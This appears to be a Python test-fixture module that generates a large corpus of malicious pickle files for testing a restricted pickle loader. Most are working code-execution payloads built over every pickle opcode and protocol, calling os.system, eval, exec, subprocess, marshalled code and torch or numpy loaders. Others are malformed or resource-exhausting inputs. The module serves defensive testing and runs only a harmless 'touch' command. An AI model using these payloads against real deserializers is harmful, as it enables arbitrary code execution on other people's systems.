"""Pickles that run code, or try to, when something other than this project's reader opens them.

Written by hand or by pickle itself, over all classes of instructions and all protocols. `live` ones need the standard
library alone and leave a file at the mark when `pickle.loads` opens them: a test does that, so that they are no straw
men. The others need torch or numpy, or are malformed on purpose.
"""

from __future__ import annotations

import marshal
import os
import pickle
import struct
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple


class Gadget(NamedTuple):
    name: str
    data: bytes
    live: bool = False


class Calls:
    """Pickles as a call of `function(*args)`, followed by a BUILD where there is a state."""

    def __init__(self, function: object, *args: object, state: object = None) -> None:
        self.call = (function, args) if state is None else (function, args, state)

    def __reduce__(self) -> tuple[object, ...]:
        return self.call


def _text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _glob(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def _stack(module: str, name: str) -> bytes:
    return _text(module) + _text(name) + b"\x93"


def gadgets(mark: Path) -> Iterator[Gadget]:
    """All of them; those that run would create the file `mark`."""
    yield from _instructions(f"touch {mark}")
    yield from _standard_library(mark)
    yield from _torch_and_numpy(f"touch {mark}")
    yield from _listed_classes(f"touch {mark}")
    yield from _malformed(f"touch {mark}")


def _instructions(shell: str) -> Iterator[Gadget]:
    """The same call of `os.system` through every instruction that can make one."""
    two, four = b"\x80\x02", b"\x80\x04"
    system, argument = _glob("os", "system"), _text(shell)
    yield Gadget("GLOBAL and REDUCE", two + system + argument + b"\x85R.", True)
    yield Gadget("GLOBAL posix", two + _glob("posix", "system") + argument + b"\x85R.", True)
    yield Gadget("STACK_GLOBAL", four + _stack("os", "system") + argument + b"\x85R.", True)
    memoized = _text("os") + b"\x94" + _text("system") + b"\x94\x93"
    yield Gadget("STACK_GLOBAL of memoized text", four + memoized + argument + b"\x85R.", True)
    swapped = _text("system") + b"q\x00" + _text("os") + b"q\x01" + b"h\x01h\x00\x93"
    yield Gadget("STACK_GLOBAL by references", four + swapped + argument + b"\x85R.", True)
    yield Gadget("STACK_GLOBAL of short text", four + b"\x8c\x02os\x8c\x06system\x93" + argument + b"\x85R.", True)
    yield Gadget("STACK_GLOBAL of long text", four + b"\x8d" + struct.pack("<Q", 2) + b"os" + _text("system") + b"\x93"
                 + argument + b"\x85R.", True)  # fmt: skip
    yield Gadget("INST", b"(S'" + shell.encode() + b"'\nios\nsystem\n.", True)
    yield Gadget("OBJ", b"(" + system + b"S'" + shell.encode() + b"'\no.", True)
    yield Gadget("protocol 0 text", system + b"(V" + shell.encode() + b"\ntR.", True)
    yield Gadget("NEWOBJ", two + _glob("subprocess", "Popen") + _listed(*shell.split()) + b"\x85\x81.")
    yield Gadget("NEWOBJ_EX", four + _stack("os", "system") + argument + b"\x85}\x92.")
    yield Gadget("call after POP", two + b"K\x010" + system + argument + b"\x85R.", True)
    yield Gadget("call after POP_MARK", two + b"(K\x01K\x021" + system + argument + b"\x85R.", True)
    yield Gadget("call by DUP", two + system + argument + b"\x8520" + b"R.", True)
    yield Gadget("memo overwritten", two + _text("harmless") + b"q\x000" + system + b"q\x00" + b"0h\x00" + argument
                 + b"\x85R.", True)  # fmt: skip
    yield Gadget("PUT and GET", system + b"p7\n0g7\n(V" + shell.encode() + b"\ntR.", True)
    yield Gadget("LONG_BINPUT and LONG_BINGET", two + system + b"r\xff\xff\x00\x000j\xff\xff\x00\x00" + argument
                 + b"\x85R.", True)  # fmt: skip
    yield Gadget("in a list", two + b"]" + system + argument + b"\x85Ra.", True)
    yield Gadget("as a key", two + b"}" + system + argument + b"\x85RNs.", True)
    yield Gadget("in a set", four + b"\x8f(" + _stack("os", "system") + argument + b"\x85R\x90.", True)
    yield Gadget("in a frozenset", four + b"(" + _stack("os", "system") + argument + b"\x85R\x91.", True)
    yield Gadget("frame too long", four + b"\x95" + b"\xff" * 7 + b"\x7f" + _stack("os", "system") + b".")
    yield Gadget("frame of nothing", four + b"\x95" + bytes(8) + _stack("os", "system") + argument + b"\x85R.", True)
    yield Gadget("no protocol", system + argument + b"\x85R.", True)
    yield Gadget("PERSID", b"P" + shell.encode() + b"\n.")
    yield Gadget("BINPERSID of a call", two + system + argument + b"\x85RQ.")
    for name, code in (("EXT1", b"\x82\x01"), ("EXT2", b"\x83\x01\x00"), ("EXT4", b"\x84\x01\x00\x00\x00")):
        registered = _glob("copyreg", "add_extension") + _text("os") + _text("system") + b"K\x01\x87R0"
        yield Gadget(f"{name} after its registration", two + registered + code + argument + b"\x85R.", name == "EXT1")
    for protocol in range(6):
        yield Gadget(f"pickled, protocol {protocol}", pickle.dumps(Calls(os.system, shell), protocol=protocol), True)


def _listed(*texts: str) -> bytes:
    return b"](" + b"".join(map(_text, texts)) + b"e"


def _standard_library(mark: Path) -> Iterator[Gadget]:
    shell, source = f"touch {mark}", f"open({str(mark)!r}, 'w').close()"
    inner = pickle.dumps(Calls(os.system, shell))
    yield Gadget("eval", pickle.dumps(Calls(eval, source)), True)
    yield Gadget("exec", pickle.dumps(Calls(exec, source), protocol=2), True)
    yield Gadget("open for writing", pickle.dumps(Calls(open, str(mark), "w")), True)
    yield Gadget("nested pickle", pickle.dumps(Calls(pickle.loads, inner)), True)
    module = _glob("builtins", "__import__") + _text("os") + b"\x85R"
    system = _glob("builtins", "getattr") + module + _text("system") + b"\x86R"
    yield Gadget("getattr chain", b"\x80\x02" + system + _text(shell) + b"\x85R.", True)
    yield Gadget("path that is touched", pickle.dumps(Calls(Path.touch, mark)), True)
    yield Gadget("dotted name of a listed module", b"\x80\x04" + _stack("pathlib", "PosixPath.touch") + b".")
    for module, name, argument in (
        ("builtins", "compile", source),
        ("builtins", "__import__", "this"),
        ("importlib", "import_module", "this"),
        ("runpy", "run_path", str(mark)),
        ("ctypes", "CDLL", str(mark)),
        ("code", "interact", source),
        ("pdb", "run", source),
        ("webbrowser", "open", "http://localhost"),
        ("shutil", "rmtree", str(mark)),
        ("os", "execl", shell),
        ("pty", "spawn", shell),
        ("socket", "create_connection", "localhost"),
        ("linecache", "getlines", "/etc/passwd"),
        ("logging.config", "fileConfig", str(mark)),
        ("operator", "attrgetter", "system"),
        ("functools", "partial", shell),
        ("copyreg", "_reconstructor", shell),
        ("types", "FunctionType", shell),
    ):
        yield Gadget(f"{module}.{name}", b"\x80\x02" + _glob(module, name) + _text(argument) + b"\x85R.")
    yield Gadget("timeit", b"\x80\x02" + _glob("timeit", "main") + _listed("-n1", "-r1", source) + b"\x85R.", True)
    yield Gadget("commands in a subprocess", b"\x80\x02" + _glob("subprocess", "check_call") + _listed(*shell.split())
                 + b"\x85R.", True)  # fmt: skip
    code = marshal.dumps(compile(source, "x", "exec"))
    loaded = _glob("marshal", "loads") + b"B" + struct.pack("<I", len(code)) + code + b"\x85R"
    function = _glob("types", "FunctionType") + loaded + _glob("builtins", "globals") + b")R\x86R"
    yield Gadget("marshalled code", b"\x80\x03" + function + b")R.", True)


def _torch_and_numpy(shell: str) -> Iterator[Gadget]:
    inner = pickle.dumps(Calls(os.system, shell))
    blob = b"B" + struct.pack("<I", len(inner)) + inner
    for module, name in (
        ("torch.storage", "_load_from_bytes"),
        ("torch", "load"),
        ("torch.serialization", "load"),
        ("torch.jit", "load"),
        ("torch.hub", "load"),
        ("torch.storage", "UntypedStorage.from_file"),
        ("torch._utils", "_rebuild_tensor"),
        ("torch.multiprocessing.reductions", "rebuild_storage_fd"),
        ("torch.distributed.checkpoint.metadata", "os.system"),
        ("torch.utils._config_module", "ConfigModule.load_config"),
        ("torch.package", "PackageImporter"),
        ("numpy", "load"),
        ("numpy.core.multiarray", "_reconstruct"),
        ("numpy._core.multiarray", "scalar"),
        ("numpy.testing._private.utils", "runstring"),
        ("joblib", "load"),
        ("dill", "loads"),
        ("cloudpickle", "loads"),
    ):
        yield Gadget(f"{module}.{name}", b"\x80\x03" + _glob(module, name) + blob + b"\x85R.")


def _listed_classes(shell: str) -> Iterator[Gadget]:
    """Classes that the readers list, asked for more than data."""
    metadata = _glob("torch.distributed.checkpoint.metadata", "Metadata")
    hook = b"}" + _text("__setstate__") + _glob("os", "system") + b"s"
    for name, data in (
        ("__setstate__ of a listed class", metadata + b")\x81" + hook + b"b."),
        ("a listed class is called with a command", metadata + _text(shell) + b"\x85R."),
        ("state of two parts", metadata + b")\x81N}" + _text("__class__") + _text(shell) + b"s\x86b."),
        ("attributes of the class itself", metadata + b"}" + _text("__init__") + _text(shell) + b"sb."),
        ("a record is called", metadata + b")\x81" + _text(shell) + b"\x85R."),
        ("a record is made of a record", metadata + b")\x81)\x81."),
        ("layout that is a command", _glob("torch.serialization", "_get_layout") + _text(shell) + b"\x85R."),
        ("memory format out of range",
         _glob("torch.distributed.checkpoint.metadata", "_MEM_FORMAT_ENCODING") + b"K\x63\x85R."),
        ("path that is a command", _glob("pathlib", "PosixPath") + _text(shell) + b"\x85R."),
        ("size of a command", _glob("torch", "Size") + _text(shell) + b"\x85R."),
        ("ordered dict with items", _glob("collections", "OrderedDict") + b"]" + b"\x85R."),
        ("ordered dict with state", _glob("collections", "OrderedDict") + b")R}" + _text("update") + b"Nsb."),
        ("rebuild of a parameter of a parameter", 3 * _glob("torch._utils", "_rebuild_parameter") + b"\x85R\x85R."),
        ("storage by its bytes", _glob("torch", "UntypedStorage") + _text(shell) + b"\x85R."),
        ("hooks that are functions", _glob("torch._utils", "_rebuild_tensor_v2") + b"(" + b"K\x01" * 5
         + _glob("os", "system") + b"tR."),
    ):  # fmt: skip
        yield Gadget(name, b"\x80\x02" + data)


def _malformed(shell: str) -> Iterator[Gadget]:
    four, five = b"\x80\x04", b"\x80\x05"
    length = struct.pack("<Q", (1 << 63) - 1)
    for name, data in (
        ("NEXT_BUFFER", five + b"\x97."),
        ("READONLY_BUFFER", five + b"\x97\x98."),
        ("BYTEARRAY8 without end", five + b"\x96" + length + b"x."),
        ("BINBYTES8 without end", four + b"\x8e" + length + b"x."),
        ("BINUNICODE8 without end", four + b"\x8d" + length + b"x."),
        ("LONG4 without end", four + b"\x8b\xff\xff\xff\x7f."),
        ("LONG4 of negative length", four + b"\x8b\xff\xff\xff\xff."),
        ("long text number", b"L" + b"9" * 5000 + b"L\n."),
        ("global without end", b"\x80\x02cos\nsystem"),
        ("global with a null", b"\x80\x02cos\0\nsystem\n."),
        ("laughs", four + _text(shell) + b"\x94" + b"h\x00h\x00\x86\x94" * 100 + b"."),
        ("deep tuples", b"\x80\x02N" + b"\x85" * 300_000 + b"."),
        ("deep references", b"\x80\x02N" + b"Q" * 300_000 + b"."),
        ("deep lists", b"\x80\x02" + b"]" * 300_000 + b"a" * 299_999 + b"."),
        ("only marks", b"\x80\x02" + b"(" * 300_000),
        ("memo of everything", b"\x80\x04N" + b"\x94" * 300_000 + b"."),
        ("a list that holds itself", b"\x80\x02]q\x00h\x00a."),
        ("two values", b"\x80\x02NN."),
        ("protocol of the future", b"\x80\x09N."),
        ("no end", b"\x80\x02N"),
        ("nothing", b""),
    ):
        yield Gadget(name, data)
